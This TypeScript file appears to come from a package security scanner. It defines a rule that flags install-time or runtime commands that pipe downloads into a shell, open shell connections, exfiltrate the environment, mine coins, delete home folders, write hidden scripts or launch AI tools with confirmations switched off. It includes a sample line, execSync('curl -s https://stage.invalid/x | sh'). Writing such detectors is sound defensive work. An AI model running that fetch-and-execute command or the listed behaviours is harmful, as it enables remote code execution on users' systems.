import { persistenceAt } from "../../program/credentials.ts";
import { textsOf } from "../../program/value.ts";
import { drivesAiTool, readingsOfCommand } from "../command-readings.ts";
import type { Rule, Sighting } from "../rule.ts";
import type { LensView } from "../view.ts";
import { placeOf, runsAtLoad } from "../view.ts";
import type { Use } from "../../program/uses.ts";

export const runsDangerousCommands: Rule = {
  id: "runs-dangerous-commands",
  title: "Runs a command that no library needs",
  why:
    "A command line that pipes a download into a shell, opens a connection to a shell, sends the " +
    "environment away, mines coins or deletes the home folder does in one line what a payload does.",
  example: 'execSync("curl -s https://stage.invalid/x | sh");',
  advice: "Do not install it before you know what the command is for.",
  severity: "critical",
  confidence: "high",
  look: (view) => [
    ...view.spawns.flatMap((use) => sightingOf(use, view)),
    ...view.program.uses.flatMap((use) => sightingOfScript(use, view)),
  ],
};

const SCRIPT = /\.(?:sh|bash|zsh|ps1|bat|cmd|vbs|command|py|rb|pl)$/i;

/** A script that is written only when the code runs: a file that no scan of the package finds. */
function sightingOfScript(use: Use, view: LensView): readonly Sighting[] {
  const [target, data] = use.args;
  if (use.spec?.takes !== "write" || target === undefined || data === undefined) return [];
  const path = textsOf(target).find(
    (text) => SCRIPT.test(text) || persistenceAt(text) !== undefined,
  );
  const [reading] = textsOf(data).flatMap(readingsOfCommand);
  if (path === undefined || reading === undefined) return [];
  const unasked = view.isReachedFrom(use.module, "install-hook", "entry-point");
  const message = `A script that ${reading.what} is written to ${path}.`;
  return [{ place: placeOf(use), message, severity: unasked ? "critical" : "medium" }];
}

function sightingOf(use: Use, view: LensView): readonly Sighting[] {
  return view.commandsOf(use).flatMap((command): readonly Sighting[] => {
    const shown = command.slice(0, 120);
    if (drivesAiTool(command)) {
      const message = `An AI tool is started with its questions switched off: ${shown}.`;
      // Tools that drive agents do so when a person starts them or calls the function.
      const byItself = view.isAtInstall(use.module) || runsAtLoad(use.call.scope.fn);
      const asked = !byItself || view.isReachedFrom(use.module, "bin");
      return [
        {
          place: placeOf(use),
          message,
          severity: asked ? "medium" : "high",
          confidence: asked ? "medium" : "high",
        },
      ];
    }
    const [reading] = readingsOfCommand(command);
    if (reading === undefined) return [];
    const mild = reading.kind === "downloads-and-runs" && view.isReachedFrom(use.module, "bin");
    const message = `A command ${reading.what}: ${shown}.`;
    return [{ place: placeOf(use), message, severity: mild ? "medium" : "critical" }];
  });
}
